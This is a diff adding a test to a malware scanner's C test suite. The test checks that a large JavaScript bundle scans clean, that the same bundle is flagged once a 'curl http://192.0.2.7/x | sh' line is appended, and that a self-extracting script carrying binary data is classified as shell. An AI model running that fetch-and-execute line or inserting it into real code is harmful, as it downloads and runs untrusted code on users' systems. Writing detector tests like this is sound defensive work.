@@ -100,6 +100,32 @@ static void check_one(struct bytes head, struct bytes script)
     talloc_free(arena);
 }
 
+/* What a bundle of megabytes does at its end counts, and all of it was read; so with what an installer carries. */
+static void check_long(void)
+{
+    static const char module[] = "define(function (a, b) { var c = b[0]; return a.map(function (d) { return d + c; }); });\n";
+    static const char act[] = "require('child_process').execSync('curl http://192.0.2.7/x | sh');\n";
+    static const char head[] = "#!/bin/sh\ntail -n +4 \"$0\" > /opt/data.bin\nexit 0\n";
+    struct arena *arena = arena_new(NULL);
+    struct text text;
+    text_init(&text, arena, 0);
+    text_add_string(&text, "const os = require('os');\n");
+    while (text.len < (size_t)3 << 20)
+        text_add_string(&text, module);
+    struct verdict *v = scan_bytes(arena, &settings, text_bytes(&text), BYTES("index.js"), false);
+    tap_ok(v->class == VERDICT_CLEAN, "a long bundle is read whole (%d)", (int)v->class);
+    text_add_string(&text, act);
+    v = scan_bytes(arena, &settings, text_bytes(&text), BYTES("index.js"), false);
+    tap_ok(v->class == VERDICT_MALICIOUS, "what it does at its end counts (%d)", (int)v->class);
+    text_init(&text, arena, 0);
+    text_add_string(&text, head);
+    for (size_t i = 0; text.len < (size_t)512 << 10; i++)
+        text_add_byte(&text, (uint8_t)(i % 251 == 1 ? '#' : i * 7));
+    v = scan_bytes(arena, &settings, text_bytes(&text), BYTES("install.run"), false);
+    tap_ok(bytes_equal(v->kind, BYTES("shell")), "a script that carries data is a script");
+    talloc_free(arena);
+}
+
 static void check_file(const char *path)
 {
     struct arena *arena = arena_new(NULL);
@@ -137,6 +163,7 @@ int main(void)
         snprintf(path, sizeof path, "test/script/%s.txt", files[i]);
         check_file(path);
     }
+    check_long();
     printf("# malicious: %u of %u found\n", found, malicious_count);
     printf("# named: %u, rightly %u\n", named_count, rightly);
     talloc_free(families);
